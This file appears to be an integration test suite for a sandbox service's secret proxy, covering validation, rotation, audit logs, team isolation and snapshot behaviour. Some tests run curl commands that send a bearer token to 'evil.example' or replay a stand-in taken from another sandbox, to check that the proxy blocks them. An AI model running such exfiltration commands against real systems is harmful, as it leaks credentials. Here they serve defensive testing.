import assert from 'node:assert/strict';
import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { join } from 'node:path';
import { test } from 'node:test';
import Database from 'better-sqlite3';
import { providers } from '../../src/core/secrets/providers.ts';
import { call } from '../harness/http.ts';
import { control, exec, gatewayOfThisFile, make, type Made } from '../harness/superserve.ts';
import { serverWithUpstream } from '../harness/upstream.ts';
import { eventually } from '../harness/wait.ts';

const { server, arrived } = await serverWithUpstream(['api.secret-test.example', 'git.secret-test.example', 'evil.example']);
const gateway = gatewayOfThisFile(server);
const value = `real-${randomBytes(12).toString('hex')}`;
const bearer = { auth: { type: 'bearer' }, hosts: ['api.secret-test.example'] };

async function store(name: string, fields: object = bearer, secret = value): Promise<void> {
  const { status, text } = await control(server, 'POST', '/secrets', { json: { name, value: secret, ...fields } });
  assert.equal(status, 201, text);
}

/** What a request from inside, with the variable as bearer token, got and what arrived outside. */
async function fetched(sandbox: Made, variable = 'KEY', url = 'https://api.secret-test.example/v1'): Promise<{ status: string; got: string | undefined; body: string }> {
  arrived();
  const { stdout, stderr } = await exec(server, sandbox, { command: `curl -sS -m 20 -w ' %{http_code}' -H "Authorization: Bearer $${variable}" ${url}`, timeout_s: 30 });
  const [, body = '', status = ''] = /^(.*) (\d+)$/s.exec(stdout as string) ?? [];
  return { status: status === '000' ? String(stderr) : status, got: arrived()[0]?.headers.authorization, body };
}

test('the SDK stores, lists, rotates and deletes secrets, by provider and by rules of their own', async () => {
  const seen = await gateway.run(async ({ Secret, Provider }) => {
    const plain = (each: object): unknown => JSON.parse(JSON.stringify(each));
    const failed = (work: Promise<unknown>): Promise<unknown> => work.then(() => 'nothing', (error: { name: string; statusCode?: number; code?: string }) => [error.name, error.statusCode, error.code]);
    const made = await Secret.create({ name: 'ANTHROPIC', value: 'sk-1', provider: 'anthropic' });
    const github = await Secret.create({ name: 'GH', value: 'ghp_1', provider: 'github' });
    const custom = await Secret.create({ name: 'CUSTOM', value: 'v', auth: { type: 'custom', headers: { 'X-A': 'k={{ value }}' } }, hosts: ['*.a.example.com', 'b.example.com'] });
    const perHost = await Secret.create({ name: 'PER-HOST', value: 'v', auth: { perHost: [{ hosts: ['a.example.com'], type: 'bearer' }, { hosts: ['b.example.com'], type: 'api-key', header: 'x-key', prefix: 'T ' }] }, hosts: ['a.example.com', 'b.example.com'] });
    const rotated = await made.rotate('sk-2');
    return {
      made: plain(await Secret.get('ANTHROPIC')), github: plain(github), custom: plain(custom), perHost: plain(perHost), rotated: rotated.updatedAt >= made.updatedAt,
      twice: await failed(Secret.create({ name: 'GH', value: 'x', provider: 'github' })),
      unknown: await failed(Secret.get('NONE')),
      listed: (await Secret.list()).map(({ name }) => name),
      audit: await made.getAudit(), sandboxes: await made.getSandboxes(),
      deleted: [await Secret.deleteByName('GH'), await Secret.deleteByName('GH'), await made.delete()],
      providers: await Provider.list(),
    };
  });
  const made = seen.made as Record<string, unknown>;
  assert.deepEqual([made['name'], made['authType'], made['authConfig'], made['hosts'], made['providerShortcut']], ['ANTHROPIC', 'api-key', { header: 'x-api-key' }, ['api.anthropic.com'], 'anthropic']);
  const github = seen.github as Record<string, unknown>;
  assert.deepEqual([github['authType'], github['hosts']], ['per_host', ['api.github.com', 'github.com']]);
  const [custom, perHost] = [seen.custom, seen.perHost] as Record<string, unknown>[];
  assert.deepEqual([custom!['authType'], custom!['authConfig'], custom!['hosts']], ['custom', { headers: { 'x-a': 'k={{ value }}' } }, ['*.a.example.com', 'b.example.com']]);
  assert.deepEqual(perHost!['authConfig'], { per_host: [{ hosts: ['a.example.com'], type: 'bearer' }, { hosts: ['b.example.com'], type: 'api-key', header: 'x-key', prefix: 'T ' }] });
  assert.equal(seen.rotated, true);
  assert.deepEqual(seen.twice, ['ConflictError', 409, 'conflict']);
  assert.deepEqual(seen.unknown, ['NotFoundError', 404, 'not_found']);
  assert.deepEqual([...seen.listed].sort(), ['ANTHROPIC', 'CUSTOM', 'GH', 'PER-HOST']);
  assert.deepEqual([seen.audit, seen.sandboxes], [[], []]);
  assert.deepEqual(seen.providers.map(({ name }) => name), providers.map(({ name }) => name));
  assert.deepEqual({ ...seen.providers.find(({ name }) => name === 'openai') }, { name: 'openai', display: 'OpenAI', authType: 'bearer', authConfig: {}, hosts: ['api.openai.com'], tokenShape: 'sk-proj-...' });
  for (const name of ['CUSTOM', 'PER-HOST']) assert.equal((await control(server, 'DELETE', `/secrets/${name}`)).status, 204);
});

test('every limit of a secret is told by its field', async () => {
  const base = { name: 'X', value: 'v', ...bearer };
  const refused: [object, RegExp][] = [
    [{ name: '9x' }, /^name must match/], [{ name: 'a b' }, /^name must match/], [{ name: 'x'.repeat(129) }, /^name must match/],
    [{ value: '' }, /^value is empty/], [{ value: 'x'.repeat(8193) }, /^value has 8193 bytes/], [{ value: 'a\nb' }, /^value holds a control character/], [{ value: 'a\0' }, /^value holds a control character/],
    [{ hosts: [] }, /^hosts must have 1 to 16 hosts, but has 0/], [{ hosts: Array.from({ length: 17 }, (_, i) => `h${i}.example.com`) }, /^hosts must have 1 to 16 hosts, but has 17/],
    [{ hosts: ['*.com'] }, /^hosts\[0\] "\*\.com" is too broad/], [{ hosts: ['*.github.io'] }, /^hosts\[0\] .* too broad/], [{ hosts: ['a.b', '*'] }, /^hosts\[1\] /], [{ hosts: ['10.0.0.1'] }, /^hosts\[0\] /], [{ hosts: ['https://a.b'] }, /^hosts\[0\] /],
    [{ auth: { type: 'oauth' } }, /^auth\.type must be one of bearer, basic, api-key, custom, but is "oauth"/], [{ auth: {} }, /^auth\.type must be one of/],
    [{ auth: { type: 'api-key' } }, /^auth\.header is required/], [{ auth: { type: 'api-key', header: 'Host' } }, /^auth\.header "Host" cannot be set/], [{ auth: { type: 'api-key', header: 'Transfer-Encoding' } }, /^auth\.header .* cannot be set/],
    [{ auth: { type: 'bearer', username: 'x' } }, /^auth\.username says nothing with type bearer/], [{ auth: { type: 'basic', username: 'a:b' } }, /^auth\.username must have/],
    [{ auth: { type: 'custom', headers: {} } }, /^auth\.headers must have 1 to 8/], [{ auth: { type: 'custom', headers: { 'x-a': 'none' } } }, /^auth\.headers\.x-a must hold \{\{ value \}\}/],
    [{ auth: { type: 'custom', headers: Object.fromEntries(Array.from({ length: 9 }, (_, i) => [`x-${i}`, '{{ value }}'])) } }, /^auth\.headers has 9 entries; the limit is 8/],
    [{ auth: { per_host: [{ hosts: ['other.example'], type: 'bearer' }] } }, /^auth\.per_host\[0\]\.hosts has other\.example, which is not among hosts/],
    [{ auth: { type: 'bearer', per_host: [{ hosts: bearer.hosts, type: 'bearer' }] } }, /^auth\.type and auth\.per_host exclude each other/],
    [{ hosts: ['*.a.example'], auth: { per_host: [{ hosts: ['*.a.example'], type: 'bearer' }, { hosts: ['x.a.example'], type: 'basic' }] } }, /^auth\.per_host\[1\]\.hosts has x\.a\.example, which overlaps/],
    [{ provider: 'openai' }, /^auth and provider exclude each other/], [{ auth: undefined, hosts: undefined, provider: 'nobody' }, /^provider "nobody" is not known/], [{ auth: undefined }, /^auth is required/], [{ hosts: undefined }, /^hosts is required/],
  ];
  for (const [changes, message] of refused) {
    const { status, json } = await control(server, 'POST', '/secrets', { json: { ...base, ...changes } });
    assert.deepEqual([status, json.error.code], [400, 'bad_request'], JSON.stringify(changes));
    assert.match(json.error.message, message);
  }
  assert.equal((await control(server, 'POST', '/secrets', { json: { ...base, team: 'x' } })).status, 400);
  assert.deepEqual((await control(server, 'GET', '/secrets')).json, []);
});

test('bound at create: the stand-in goes out as the real value, to its host only, and every use is written down', async () => {
  await store('KEY');
  const made = await make(server, { secrets: { KEY: 'KEY' }, env_vars: { OTHER: 'x' } });
  assert.deepEqual(made.json.secrets, [{ env_key: 'KEY', secret_name: 'KEY' }]);
  const { stdout: standIn } = await exec(server, made, 'printf %s "$KEY"');
  assert.match(standIn, /^ssrv_proxy_[A-Za-z0-9]{43}$/);
  const first = await fetched(made);
  assert.deepEqual([first.status, first.got], ['200', `Bearer ${value}`]);
  assert.ok(!first.body.includes(value) && first.body.includes(standIn));
  // No program needs to be told of the authority.
  const bare = await fetched(made, '{NONE:-mine}');
  assert.deepEqual([bare.status, bare.got], ['200', 'Bearer mine'], bare.body); // what is no stand-in passes as it is
  const evil = await fetched(made, 'KEY', 'https://evil.example/');
  assert.deepEqual([evil.status, evil.got], ['403', undefined]);
  assert.match(evil.body, /KEY/);
  const audit = await until(async () => {
    const { json } = await control(server, 'GET', '/secrets/KEY/audit');
    return json.length >= 2 ? json : null;
  });
  assert.deepEqual(audit.map(({ host, status, error_code, method }: Record<string, unknown>) => [host, status, error_code, method]), [['evil.example', 403, 'credential_host_mismatch', 'GET'], ['api.secret-test.example', 200, undefined, 'GET']]);
  assert.deepEqual([audit[1].sandbox_id, audit[1].sandbox_name, audit[1].path, audit[1].upstream_status], [made.id, 'test', '/v1', 200]);
  assert.deepEqual((await control(server, 'GET', '/secrets/KEY/audit?status=errors')).json.length, 1);
  assert.deepEqual((await control(server, 'GET', `/secrets/KEY/audit?before=${audit[0].id}`)).json.length, 1);
  assert.deepEqual((await control(server, 'GET', '/secrets/KEY/sandboxes')).json, [{ sandbox_id: made.id, sandbox_name: 'test', env_key: 'KEY', status: 'active' }]);
  assert.ok((await control(server, 'GET', '/secrets/KEY')).json.last_used_at);
  const { data } = (await control(server, 'GET', `/sandboxes/${made.id}/network`)).json;
  const rows = data.filter(({ kind }: { kind: string }) => kind === 'request');
  assert.deepEqual(rows.map(({ host, method, path, status, error_code }: Record<string, unknown>) => [host, method, path, status, error_code]), [['evil.example', 'GET', '/', 403, 'credential_host_mismatch'], ['api.secret-test.example', 'GET', '/v1', 200, undefined]]);
  assert.ok(data.every(({ kind }: { kind: string }) => kind === 'request' || kind === 'connection') && !JSON.stringify(data).includes(standIn));
  const { json: activity } = await control(server, 'GET', '/activity?category=secret');
  assert.deepEqual([activity.at(-1).category, activity.some(({ action, secret_name }: Record<string, string>) => action === 'secret_created' && secret_name === 'KEY')], ['secret', true]);
  await control(server, 'DELETE', `/sandboxes/${made.id}`);
});

test('rotation, attach and detach hold at once in a running sandbox; a deleted secret leaves a dead stand-in', async () => {
  await store('LIVE');
  const made = await make(server);
  const attach = (env: string, secret: string) => control(server, 'POST', `/sandboxes/${made.id}/secrets`, { json: { env_key: env, secret_name: secret } });
  const attached = await attach('LIVE_KEY', 'LIVE');
  assert.deepEqual([attached.status, attached.json], [201, { env_key: 'LIVE_KEY', secret_name: 'LIVE' }]);
  assert.deepEqual((await fetched(made, 'LIVE_KEY')).got, `Bearer ${value}`);
  assert.equal((await control(server, 'PATCH', '/secrets/LIVE', { json: { value: `${value}-2` } })).status, 200);
  assert.deepEqual((await fetched(made, 'LIVE_KEY')).got, `Bearer ${value}-2`);
  assert.deepEqual([(await attach('LIVE_KEY', 'LIVE')).status, (await attach('X', 'NONE')).json.error.code, (await attach('9', 'LIVE')).status], [409, 'secret_not_found', 400]);
  const { stdout: standIn } = await exec(server, made, 'printf %s "$LIVE_KEY"');
  assert.equal((await control(server, 'DELETE', `/sandboxes/${made.id}/secrets/LIVE_KEY`)).status, 204);
  assert.equal((await control(server, 'DELETE', `/sandboxes/${made.id}/secrets/LIVE_KEY`)).status, 404);
  assert.equal((await exec(server, made, 'printf %s "$LIVE_KEY"')).stdout, '');
  const dead = await exec(server, made, `curl -sS -m 20 -o /dev/null -w '%{http_code}' -H 'Authorization: Bearer ${standIn}' https://api.secret-test.example/`);
  assert.notEqual(dead.stdout, '200');
  assert.deepEqual(arrived(), []);
  await attach('LIVE_KEY', 'LIVE');
  await control(server, 'DELETE', '/secrets/LIVE');
  assert.deepEqual((await control(server, 'GET', `/sandboxes/${made.id}`)).json.secrets, [{ env_key: 'LIVE_KEY', secret_name: 'LIVE', revoked: true }]);
  const revoked = await fetched(made, 'LIVE_KEY');
  assert.deepEqual([revoked.status, revoked.got], ['503', undefined]);
  await control(server, 'DELETE', `/sandboxes/${made.id}`);
});

test('stand-ins work after a resume, from disk too, and in a copy from a snapshot, which has fresh ones', async () => {
  await store('SLEEPER');
  const made = await make(server, { secrets: { KEY: 'SLEEPER' } });
  await exec(server, made, 'nohup sh -c \'while sleep 1; do [ -e /tmp/go ] && curl -sS -m 20 -H "Authorization: Bearer $KEY" https://api.secret-test.example/from-before && rm /tmp/go; done\' >/tmp/out 2>&1 &');
  const { json: snapshot } = await control(server, 'POST', `/sandboxes/${made.id}/snapshot`);
  assert.equal((await control(server, 'POST', `/sandboxes/${made.id}/pause`)).status, 204);
  const { json: resumed } = await control(server, 'POST', `/sandboxes/${made.id}/resume`);
  const again = { ...made, token: resumed.access_token };
  assert.equal((await fetched(again)).got, `Bearer ${value}`);
  await server.crash();
  await server.start();
  assert.equal((await fetched(again)).got, `Bearer ${value}`);
  const copy = await make(server, { from_snapshot: snapshot.id });
  assert.equal((await fetched(copy)).got, `Bearer ${value}`);
  const own = async (sandbox: Made): Promise<string> => (await exec(server, sandbox, 'printf %s "$KEY"')).stdout;
  assert.notEqual(await own(copy), await own(again));
  // What runs on in the copy has the stand-in of the source in its memory.
  arrived();
  await exec(server, copy, 'touch /tmp/go; for i in $(seq 100); do [ -e /tmp/go ] || break; sleep 0.1; done');
  assert.deepEqual(arrived().map(({ url, headers }) => [url, headers.authorization]), [['/from-before', `Bearer ${value}`]]);
  // A stand-in is worth nothing in another sandbox.
  const stolen = await exec(server, again, `curl -sS -m 20 -H 'Authorization: Bearer ${await own(copy)}' https://api.secret-test.example/stolen`);
  assert.ok(!JSON.stringify(arrived()).includes(value), stolen.stdout);
  for (const { id } of [again, copy]) await control(server, 'DELETE', `/sandboxes/${id}`);
  await control(server, 'DELETE', `/snapshots/${snapshot.id}`);
});

test('in a sandbox of a template whose start command runs already, a secret works as in any other', async () => {
  await store('STARTED');
  const built = await control(server, 'POST', '/templates', { json: { name: 'started', build_spec: { from: 'base', start_cmd: 'exec sleep 100000' } } });
  assert.equal(built.status, 202, built.text);
  await eventually(async () => (await control(server, 'GET', `/templates/${built.json.id}`)).json.status === 'ready', { withinMs: 60_000 });
  const sandboxes = await Promise.all([1, 2].map(() => make(server, { from_template: 'started', secrets: { KEY: 'STARTED' } })));
  for (const sandbox of sandboxes) assert.deepEqual(await fetched(sandbox).then(({ status, got }) => [status, got]), ['200', `Bearer ${value}`]);
  const [one, two] = await Promise.all(sandboxes.map(async (sandbox) => (await exec(server, sandbox, 'echo $KEY')).stdout as string));
  assert.notEqual(one, two);
  for (const { id } of sandboxes) assert.equal((await control(server, 'DELETE', `/sandboxes/${id}`)).status, 204);
  assert.equal((await control(server, 'DELETE', `/templates/${built.json.id}`)).status, 204);
  assert.equal((await control(server, 'DELETE', '/secrets/STARTED')).status, 204);
});

test('a create names its secrets in the order of the contract, and the check tells beforehand what would happen', async () => {
  const refused = async (fields: object): Promise<string> => (await control(server, 'POST', '/sandboxes', { json: { name: 'x', ...fields } })).json.error.code;
  assert.equal(await refused({ secrets: { A: 'NONE' }, from_template: 'no/such' }), 'secret_not_found');
  await store('CHECKED');
  assert.equal(await refused({ secrets: { A: 'CHECKED' }, from_template: 'no/such' }), 'not_found');
  assert.equal(await refused({ secrets: Object.fromEntries(Array.from({ length: 33 }, (_, i) => [`K${i}`, 'CHECKED'])) }), 'bad_request');
  const made = await make(server, { secrets: { KEY: 'CHECKED' }, network: { allow_out: ['api.secret-test.example'] } });
  const check = async (fields: object): Promise<unknown> => (await control(server, 'POST', `/sandboxes/${made.id}/secrets/check`, { json: { env_key: 'KEY', ...fields } })).json.code;
  assert.equal(await check({ url: 'https://api.secret-test.example/v1' }), null);
  assert.equal(await check({ url: 'http://api.secret-test.example/v1' }), 'plain_http');
  assert.equal(await check({ url: 'https://evil.example/' }), 'network_rules');
  assert.equal(await check({ url: 'https://api.secret-test.example/', env_key: 'NONE' }), 'not_bound');
  assert.equal((await control(server, 'POST', `/sandboxes/${made.id}/secrets/check`, { json: { env_key: 'KEY', url: 'ftp://x' } })).status, 400);
  assert.equal((await control(server, 'POST', `/sandboxes/${made.id}/pause`)).status, 204);
  assert.equal((await control(server, 'POST', `/sandboxes/${made.id}/secrets`, { json: { env_key: 'MORE', secret_name: 'CHECKED' } })).status, 409);
  await control(server, 'DELETE', `/sandboxes/${made.id}`);
  assert.equal((await control(server, 'POST', `/sandboxes/${made.id}/secrets`, { json: { env_key: 'MORE', secret_name: 'CHECKED' } })).status, 404);
});

test('another team finds nothing by name, and its secrets of the same name are its own', async () => {
  const raw = `dcl_${randomBytes(24).toString('hex')}`;
  const db = new Database(join(server.dataDir, 'paddock.db'));
  const team = randomUUID();
  db.prepare('insert into teams (id, name, created_at) values (?, ?, ?)').run(team, `team ${team}`, Date.now());
  db.prepare('insert into api_keys (id, team_id, name, hash, created_at) values (?, ?, ?, ?, ?)').run(randomUUID(), team, 'stranger', createHash('sha256').update(raw).digest('hex'), Date.now());
  db.close();
  await store('SHARED_NAME');
  const made = await make(server, { secrets: { KEY: 'SHARED_NAME' } });
  const stranger = (method: string, path: string, json?: unknown) => call(server.url, method, `/superserve${path}`, { key: null, headers: { 'x-api-key': raw }, ...(json === undefined ? {} : { json }) });
  for (const [method, path, json] of [
    ['GET', '/secrets/SHARED_NAME'], ['PATCH', '/secrets/SHARED_NAME', { value: 'stolen' }], ['DELETE', '/secrets/SHARED_NAME'], ['GET', '/secrets/SHARED_NAME/audit'], ['GET', '/secrets/SHARED_NAME/sandboxes'],
    ['POST', `/sandboxes/${made.id}/secrets`, { env_key: 'A', secret_name: 'SHARED_NAME' }], ['DELETE', `/sandboxes/${made.id}/secrets/KEY`], ['POST', `/sandboxes/${made.id}/secrets/check`, { env_key: 'KEY', url: 'https://a.example' }],
  ] as const) assert.equal((await stranger(method, path, json)).status, 404, `${method} ${path}`);
  assert.deepEqual((await stranger('GET', '/secrets')).json, []);
  assert.equal((await stranger('POST', '/sandboxes', { name: 'x', secrets: { A: 'SHARED_NAME' } })).json.error.code, 'secret_not_found');
  assert.equal((await stranger('POST', '/secrets', { name: 'SHARED_NAME', value: 'theirs', ...bearer })).status, 201);
  assert.equal((await fetched(made)).got, `Bearer ${value}`);
  await control(server, 'DELETE', `/sandboxes/${made.id}`);
});

test('a secret of one wire is there for the other, as far as its words go', async () => {
  await store('BOTH');
  const { json: teams } = await server.call('GET', '/teams');
  const team = teams.teams[0].team_id;
  const { secrets } = (await server.call('GET', `/teams/${team}/vault/secrets`)).json;
  assert.deepEqual(secrets.find(({ name }: { name: string }) => name === 'BOTH').scopes, [{ domain_regex: 'api\\.secret-test\\.example', injection_type: 'bearer', header_name: 'Authorization', value_prefix: 'Bearer ' }]);
  await server.call('POST', `/teams/${team}/vault/secrets`, { json: { name: 'from-vault', value, scopes: [{ domain_regex: '.*\\.x.example', injection_type: 'query', query_params: { key: '{{ value }}' } }] } });
  const { json: shown } = await control(server, 'GET', '/secrets/from-vault');
  assert.deepEqual([shown.auth_type, shown.auth_config, shown.hosts], ['custom', { query: { key: '{{ value }}' } }, ['~.*\\.x.example']]);
});

async function until<T>(look: () => Promise<T | null>): Promise<T> {
  for (let i = 0; i < 100; i++) {
    const found = await look();
    if (found !== null) return found;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error('it did not happen within ten seconds');
}
